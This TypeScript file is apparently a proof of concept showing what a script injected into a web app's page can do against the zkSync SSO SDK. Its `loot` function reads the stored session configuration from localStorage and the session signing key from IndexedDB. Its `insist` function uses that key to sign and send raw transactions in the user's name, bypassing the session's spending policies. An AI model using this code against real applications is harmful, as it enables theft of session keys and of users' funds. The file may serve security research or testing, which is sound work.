// What a script injected into an app's page can do: it finds the session and has its key sign, without the
// SDK's checks. `insist` sends a transaction and returns the node's answer.

import {
  encodeSessionSignature,
  fromStoredSessionKey,
  indexedDbSessionKeyStore,
} from "@zksync-sso/sdk/client/session";
import { parseSessionConfigJSON, type SessionConfigJSON } from "@zksync-sso/sdk/session";
import { createPublicClient, hashTypedData, http, type Address, type Hex } from "viem";
import { chainConfig, zksyncInMemoryNode } from "viem/zksync";

/** A call that the session may not allow. */
export interface InsistentCall {
  readonly to: Address;
  /** Wei, in decimal digits. */
  readonly value: string;
  readonly data?: Hex;
}

interface Stored {
  readonly address: Address;
  readonly sessions: Readonly<
    Record<
      string,
      { readonly sessionConfig: SessionConfigJSON; readonly contracts: { readonly session: Address } }
    >
  >;
}

/** Sends a call in the session's name, whatever the session says. */
async function insist(rpc: string, { to, value, data = "0x" }: InsistentCall): Promise<unknown> {
  const { address, session, module, key } = await loot();
  const node = createPublicClient({ chain: zksyncInMemoryNode, transport: http(rpc) });
  const transaction = {
    type: "eip712",
    chainId: zksyncInMemoryNode.id,
    from: address,
    to,
    value: BigInt(value),
    data,
    nonce: await node.getTransactionCount({ address }),
    gas: 3_000_000n,
    gasPerPubdata: 50_000n,
    maxFeePerGas: await node.getGasPrice(),
    maxPriorityFeePerGas: 0n,
  } as const;
  const digest = hashTypedData(chainConfig.custom.getEip712Domain(transaction) as never);
  // As many as the largest policy of the example's session takes: none of its limits has a period.
  const periodIds = data === "0x" ? [0n, 0n] : [0n, 0n, 0n, 0n];
  const customSignature = encodeSessionSignature({
    signature: await key.sign(digest),
    module,
    session,
    periodIds,
  });
  const raw = chainConfig.serializers.transaction({ ...transaction, customSignature } as never);
  const response = await fetch(rpc, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "eth_sendRawTransaction", params: [raw] }),
  });
  return response.json();
}

async function loot() {
  const name = Object.keys(localStorage).find((each) => each.startsWith("zksync-sso.connection."));
  const { address, sessions } = JSON.parse(localStorage.getItem(name ?? "") ?? "") as Stored;
  const [stored] = Object.values(sessions);
  if (!stored) throw new Error("the app has no session");
  const session = parseSessionConfigJSON(stored.sessionConfig);
  const found = await indexedDbSessionKeyStore().get(session.signer);
  if (!found) throw new Error("the session's key is not here");
  return { address, session, module: stored.contracts.session, key: await fromStoredSessionKey(found) };
}

Object.assign(window, { insist });
